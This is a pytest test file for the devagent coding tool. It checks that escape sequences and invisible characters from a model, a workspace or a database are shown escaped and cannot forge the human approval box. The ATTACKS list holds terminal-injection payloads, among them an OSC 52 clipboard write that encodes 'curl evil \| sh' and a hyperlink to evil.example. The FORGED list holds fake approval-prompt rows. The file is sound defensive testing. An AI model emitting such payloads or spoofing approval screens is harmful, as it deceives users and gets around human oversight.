"""No byte sequence from outside devagent reaches the terminal unescaped, on any screen.

A hostile model puts control characters, escape sequences (CSI, OSC title, OSC 52 clipboard,
clear scrollback), bidi overrides and zero-width characters into every field it controls: tool
names, every argument, file names and contents, the SQL and its path, command output and its
own messages, and the reasons a rejection sends back. The real CLI runs in a pseudo-terminal
against the scripted stub server and the real sandbox; every byte it writes, for every command,
may hold rich's own colour codes and nothing else.
"""

from __future__ import annotations

import ast
import json
import re
import shlex
from pathlib import Path

import pexpect
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from devagent.display import has_hidden_characters
from llm_stub import tool_call
from terminal_helpers import LEGEND, Terminal, foreign_escapes

pytestmark = pytest.mark.usefixtures("sandbox_image")

ATTACKS = [
    "\x1b[2J\x1b[H",  # clear the screen, cursor home
    "\x1b[3J",  # clear the scrollback
    "\x1b]0;pwned title\x07",  # set the window title
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # write the clipboard (OSC 52)
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",  # hyperlink
    "\x1b[8m",  # conceal
    "\x1b[1A\x1b[2K",  # up one line, erase it
    "\x9b2J",  # C1 CSI
    "\x9d0;c1 title\x9c",  # C1 OSC ... ST
    "\r", "\b", "\x07", "\x00", "\x7f", "\t", "\x0b", "\x0c",
    "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u2028", "\u061c", "\U000e0041",
]
nasty = st.lists(st.one_of(st.sampled_from(ATTACKS), st.text(alphabet="abc ;|$'\"", max_size=4)),
                 min_size=1, max_size=6).map("".join)
EVERYTHING = "".join(ATTACKS)


def check(name: str, term: Terminal) -> None:
    bad = foreign_escapes(term.output)
    assert not bad, f"{name} wrote {bad} to the terminal:\n{term.output[-2000:]!r}"


def run(home: Path, repo: Path, *args: str, keys: list[str] | None = None) -> Terminal:
    """A command in a pseudo-terminal; `keys` answer the approval screens in turn (then "n")."""
    term = Terminal(home, repo, *args, columns=100)
    answers = list(keys or [])
    try:
        while True:
            index = term.child.expect([LEGEND, r"to approve: ", r"reason \(sent to the model\): ", pexpect.EOF])
            if index == 3:
                break
            term.send(["", "yes-destroy\r", "no\r"][index] or (answers.pop(0) if answers else "n"))
    finally:
        term.close()
    return term


@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
@example(text=EVERYTHING)
@given(text=nasty)
def test_no_outside_byte_sequence_reaches_the_terminal_on_any_screen(home: Path, repo: Path, llm, text: str) -> None:
    line = text.replace("\n", " ")
    argument = text.replace("\x00", "")  # a command-line argument cannot hold a NUL byte
    llm.steps.clear()  # the fixtures outlive one example: nothing left over from the last one
    llm.script(
        {"tool_calls": [
            tool_call(f"run_shell{text}", {"command": text}, f"u{text}"),  # a tool that does not exist
            tool_call("write_file", {"path": f"notes{line.replace('/', '')}.txt", "content": text + "\n"}, "w1"),
            tool_call("write_file", {"path": "ok.txt", "content": text + "\n"}, "w2"),
            tool_call("read_file", {"path": text}, "r1"),
            tool_call("search", {"pattern": text, "path": text}, "g1"),
            tool_call("list_files", {"path": text, "pattern": text}, "l1"),
        ]},
        {"tool_calls": [
            tool_call("run_shell", {"command": f"printf '%s\\n' {shlex.quote(text)}", "timeout_s": 30}, "s1"),
            tool_call("run_migration", {"path": f"{text}.sql", "database": text}, "m1"),
            tool_call("run_migration", {"sql": f"CREATE TABLE IF NOT EXISTS t_ok (x int); -- {line}\n"}, "m2"),
            tool_call("run_migration", {"sql": f'SELECT * FROM "{line.replace(chr(34), "")}";'}, "m3"),
        ]},
        {"content": text},
    )
    # --no-input: progress lines, then the paused calls and how to go on.
    started = run(home, repo, "task", argument, "--base-url", llm.url, "--model", "stub", "--no-input")
    check("task --no-input", started)
    if has_hidden_characters(text):  # the attack did reach the screen, as visible tokens
        assert "⟪U+" in started.text() and "● run_shell" in started.text()
    thread = re.search(r"thread ([0-9a-f]{8}) on branch", started.output).group(1)
    for args in (["pending", thread], ["pending"], ["log", thread], ["threads"]):
        check(" ".join(args), run(home, repo, *args))
    # The approve and reject messages, with the model's text as the reason (it reaches the model,
    # the log and the screen again).
    approved = run(home, repo, "approve", thread, "s1")
    check("approve", approved)
    assert "approved s1" in approved.text()
    rejected = run(home, repo, "reject", thread, "m3", "--reason", argument)
    check("reject", rejected)
    assert "rejected m3" in rejected.text()
    check("pending after the decisions", run(home, repo, "pending", thread))
    # Interactive: the approval screens left (with m: raw arguments, d: the diff), the command's
    # output, the model's last message.
    resumed = run(home, repo, "resume", thread, keys=["m", "d", "y", "y", "y", "y"])
    check("resume", resumed)
    assert re.search(rf"thread {thread} done: [0-9]+ command", resumed.text()), resumed.text()[-3000:]
    for args in (["migrations", thread], ["log", thread], ["diff", thread], ["log", argument]):
        check(" ".join(args), run(home, repo, *args))


def test_the_check_itself_tells_rich_styling_from_foreign_sequences() -> None:
    assert foreign_escapes("\x1b[1;31mbold red\x1b[0m\r\n⟪U+001B ESC⟫") == []
    for attack in ("\x1b]0;title\x07", "\x1b[2J", "\x9b2J", "\u202e", "\u200b", "\x07", "\x00"):
        assert foreign_escapes(f"ok {attack} ok"), attack


def test_pending_on_a_huge_sql_file_of_control_bytes_is_quick_and_shows_the_head(home: Path, repo: Path, llm,
                                                                                   cli) -> None:
    # (A file of NUL bytes cannot run at all, so it is refused without a screen; SOH can be shown.)
    size = 200_000
    llm.script({"tool_calls": [tool_call("write_file", {"path": "soh.sql", "content": "\x01" * size}, "w1")]},
               {"tool_calls": [tool_call("run_migration", {"path": "soh.sql"}, "m1")]})
    paused = cli("task", "migrate", "--base-url", llm.url, "--model", "stub", "--no-input")
    assert paused.returncode == 3, paused.stderr
    thread = re.search(r"thread ([0-9a-f]{8})", paused.stderr).group(1)
    listed, usage = cli.measured("pending", thread)
    assert listed.returncode == 0, listed.stderr
    # CPU time, not wall time: the machine may be busy. It was 50 s (and 1.5 GB) before.
    cpu = usage.ru_utime + usage.ru_stime
    assert cpu < 20, f"pending used {cpu:.1f}s of CPU"
    assert usage.ru_maxrss < 600 * 1024, f"pending used {usage.ru_maxrss // 1024} MB"
    for out in (paused.stdout, listed.stdout):
        assert "⟪U+0001 SOH⟫" in out and "more characters are not shown here" in out
        assert len(out) < 1_000_000
    full = __import__("hashlib").sha256(b"\x01" * size).hexdigest()
    assert full[:12] in listed.stdout  # the sha256 of the whole file


# ------------------------------------------------------------------ forged lines


FORGED = ["╭─ run_shell ─────────────╮", "│ pytest -q               │", "╰─────────────────────────╯",
          "/workspace · network off · timeout 300s", "[y] approve  [n] reject  [a] always  [d] diff  [m] more  [s] stop › "]
# (The real screen in the test is a migration's, with keys [y] and [n] only: any row like these is forged.)
FORGERY = re.compile(r"^(╭─ run_shell ─+╮|│ pytest -q|/workspace · network off|\[y\] approve  \[n\] reject  \[a\])")


def forged_text(breaks: list[str], padding: int) -> str:
    """The lines of a fake approval box, each started by a line break (or by padding that would
    wrap it to the start of a row)."""
    return "".join(b + " " * padding + line for b, line in zip(breaks, FORGED))


def screen_rows(width: int, text: str, call_id: str) -> list[str]:
    import io

    from rich.console import Console

    from devagent.approvals import ApprovalRequest
    from devagent.term import Screen, shown
    from devagent.ui import ConsoleEvents, approval_panel, legend

    out = io.StringIO()
    screen = Screen(console=Console(file=out, width=width, color_system=None, highlight=False))
    events = ConsoleEvents(screen)
    events.tool_call(f"read_file{text}", json.dumps({"path": text}), call_id)
    events.tool_call("run_shell", json.dumps({"command": "echo hi"}), "s-" + call_id)
    events.command_started("s-" + call_id, f"echo {text}")
    events.command_output("streamed\n")
    events.tool_result("run_shell", text, "s-" + call_id)
    events.tool_result(text, text, call_id)
    events.notice(f"refused without asking ({text} {call_id}): {text}")
    events.assistant_message(text)
    request = ApprovalRequest("3f9c2a1b", call_id, "run_migration", json.dumps({"path": text}), "0" * 64, "pending",
                              sql="SELECT 1;", sql_path=text, database=text, changed_files=[f"M {text}"],
                              changes_error=text, workspace_notice=text, error=None)
    screen.print(approval_panel(request, verbose=True))
    screen.print(legend([("y", "approve"), ("n", "reject")], width))
    screen.print(shown("that is not ", text))
    return out.getvalue().split("\n")


@settings(max_examples=200, deadline=None)
@example(breaks=["", "\n", "\n", "\n", "\n"], padding=0, width=40)  # outside text first on a row (a database name)
@given(breaks=st.lists(st.sampled_from(["\n", "\r", "\r\n", "\u2028", "\x85", "\x0b", "\x0c", "", " "]),
                       min_size=len(FORGED), max_size=len(FORGED)),
       padding=st.integers(0, 130), width=st.sampled_from([40, 60, 80, 120]))
def test_line_breaks_in_outside_text_cannot_forge_a_line_of_an_approval_box(breaks: list[str], padding: int,
                                                                             width: int) -> None:
    """A newline, CR or other line break from the model, the workspace or the database never starts a
    screen line, and a wrapped piece starts with ↪: no row made of outside text looks like a row of
    an approval box, its context line or its keys."""
    text = forged_text(breaks, padding)
    rows = screen_rows(width, text, "call_1")
    forged = [row for row in rows if FORGERY.match(row)]
    assert forged == [], "\n".join(rows)


def test_the_forgery_check_sees_a_forged_line(sandbox_image: str) -> None:
    """The control: the same text printed raw does start rows that pass for the box."""
    import io

    from rich.console import Console
    from rich.text import Text

    text = forged_text(["\n"] * len(FORGED), 0)
    assert len([row for row in text.split("\n") if FORGERY.match(row)]) == len(FORGED) - 1  # all but ╰─╯
    # And rich's own wrapping, without the ↪ marks, lets padding put a forged line at a row's start.
    out = io.StringIO()
    Console(file=out, width=40, color_system=None).print(Text("call " + forged_text([" "] * len(FORGED), 40)))
    assert [row for row in out.getvalue().split("\n") if FORGERY.match(row)]


# ------------------------------------------------------------------ structure


OWN = Path(__file__).parent.parent / "devagent"
# The terminal layer itself: the only modules that write to the terminal directly (pager.py hands
# the pager what a term.Screen rendered).
TERMINAL_LAYER = {"term.py", "pager.py"}
# Programs devagent sends into the sandbox as text and never imports: their stdout is the
# container's, which devagent reads as data.
IN_SANDBOX = {"sql_probe_runner.py"}
# Every way Python or rich can put text on a terminal without devagent.term.
SINKS = {"print", "input", "sys.stdout.write", "sys.stderr.write", "sys.__stdout__.write", "os.write",
         "typer.echo", "typer.secho", "click.echo", "click.secho", "typer.confirm", "typer.prompt",
         "rich.print", "Console", "Text", "Shown", "Text.assemble", "Text.from_markup", "Text.from_ansi",
         "Text.styled", "Shown.assemble", "Shown.styled"}
CONSOLE_SINKS = (".print", ".out", ".log", ".input", ".rule", ".print_json", ".print_exception")
STRINGS = (ast.JoinedStr, ast.BinOp)


def offences(source: str) -> list[str]:
    """Calls in `source` that could write text to the terminal that devagent.term did not escape."""
    tree = ast.parse(source)
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module in ("rich", "rich.text", "builtins"):
            found += [f"import {a.name}" for a in node.names if a.name in ("print", "Text")]
        if not isinstance(node, ast.Call):
            continue
        name = ast.unparse(node.func)
        on_console = name.startswith("console.") or ".console." in name
        if (name in SINKS or name.endswith("._append_escaped")
                or (on_console and name.endswith(CONSOLE_SINKS))):
            found.append(name)
            continue
        # A screen's print/ask/key/stream, or a status line's text: never a plain string.
        screen_call = name.endswith((".print", ".ask", ".key", ".stream"))
        status_call = "status" in name and name.endswith((".status", ".update"))
        if not (screen_call or status_call):
            continue
        for arg in node.args[:1] if name.endswith((".ask", ".key", ".stream")) else node.args:
            literal = isinstance(arg, ast.Constant) and isinstance(arg.value, str)
            if isinstance(arg, STRINGS) or (literal and not name.endswith(".stream")):
                found.append(f"{name}(<a plain string>)")
    return found


@pytest.mark.parametrize("module", sorted(p.name for p in OWN.glob("*.py")
                                           if p.name not in TERMINAL_LAYER | IN_SANDBOX))
def test_no_module_has_a_way_to_print_unescaped_text(module: str) -> None:
    """Output goes only through devagent.term, in every module: no print(), no direct writes to
    stdout or stderr, no echo, no console or rich Text built outside the terminal layer, no plain
    string handed to a screen."""
    assert offences((OWN / module).read_text()) == []


def test_the_programs_run_in_the_sandbox_are_never_imported() -> None:
    """What the check above leaves out really is outside devagent's own process."""
    for path in OWN.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [f"{node.module}.{a.name}" for a in node.names] + [node.module or ""]
                     if isinstance(node, ast.ImportFrom) else [])
            for name in names:
                assert name.rsplit(".", 1)[-1] + ".py" not in IN_SANDBOX, (path.name, name)


def test_the_structure_check_finds_each_way_round_it() -> None:
    """The control: each of these would print text devagent did not escape, and is found."""
    for bad in ("print(name)", "sys.stdout.write(output)", "typer.echo(path)", "self.console.print(arguments)",
                "Console().print(x)", "screen.print(f'call {tool}')", "screen.print('a' + name)",
                "Text(name)", "Shown(name)", "shown()._append_escaped(name)", "from rich import print",
                "status.update(f'running {command}')", "screen.ask(f'type {word}')", "os.write(1, data)"):
        assert offences(bad), bad
    for good in ("screen.print(shown(name))", "screen.print(shown_lines(lines))", "screen.ask(shown('x'))",
                 "emit_json(data)", "words.append(name)"):
        assert offences(good) == [], good


def test_shown_text_cannot_be_made_or_changed_from_raw_text() -> None:
    import io

    from rich.console import Console

    from devagent.term import Screen, Shown, shown, shown_lines

    raw = "ok\n\x1b]0;pwned\x07"
    for make in (lambda: Shown(), lambda: Shown(raw), lambda: Shown.assemble(raw), lambda: Shown.styled(raw, "bold")):
        with pytest.raises(TypeError):
            make()
    text = shown("safe")
    for change in (lambda: setattr(text, "plain", raw), lambda: text.append_tokens([(raw, None)]),
                   lambda: shown(raw, inline=False)):
        with pytest.raises(TypeError):
            change()
    # Copies and sums of shown text are plain rich Text: the screen refuses them.
    out = io.StringIO()
    screen = Screen(console=Console(file=out, width=200))
    for derived in (text.copy(), text + raw, text[0:2]):
        with pytest.raises(TypeError):
            screen.print(derived)
    # A newline or CR in one line of text is a visible token, never a new screen line; several
    # lines are printed only through shown_lines, each line itself escaped.
    screen.print(shown("a", raw, "\rb"))
    screen.print(text.append(raw))
    screen.print(shown_lines(["first", raw]))
    assert out.getvalue().split("\n") == [
        "aok⟪U+000A LF⟫⟪U+001B ESC⟫]0;pwned⟪U+0007 BEL⟫⟪U+000D CR⟫b",
        "safeok⟪U+000A LF⟫⟪U+001B ESC⟫]0;pwned⟪U+0007 BEL⟫",
        "first",
        "ok⟪U+000A LF⟫⟪U+001B ESC⟫]0;pwned⟪U+0007 BEL⟫",
        "",
    ]


def test_the_screen_refuses_plain_strings_and_unescaped_text() -> None:
    import io

    from rich.console import Console
    from rich.panel import Panel
    from rich.table import Table
    from rich.text import Text

    from devagent.term import Screen, shown

    out = io.StringIO()
    screen = Screen(console=Console(file=out, width=80))
    raw = "\x1b]0;pwned\x07"
    table = Table()
    table.add_column(shown("a"))
    table.add_row(raw)
    for bad in (raw, Text(raw), Panel(raw), Panel(shown("ok"), title=raw), table):
        with pytest.raises(TypeError):
            screen.print(bad)
    with pytest.raises(TypeError):
        shown("ok").append(Text(raw))
    screen.print(Panel(shown(raw), title=shown(raw)), shown("a").append(raw))
    assert "\x1b]" not in out.getvalue() and out.getvalue().count("⟪U+001B ESC⟫]0;pwned⟪U+0007 BEL⟫") == 3


def test_json_output_is_escaped_for_a_terminal_and_reads_back_exactly(capsys: pytest.CaptureFixture[str]) -> None:
    from devagent.term import emit_json

    data = {"command": EVERYTHING, "name": "café"}
    emit_json(data)
    out = capsys.readouterr().out
    assert foreign_escapes(out) == [] and out.isascii()
    assert json.loads(out) == data
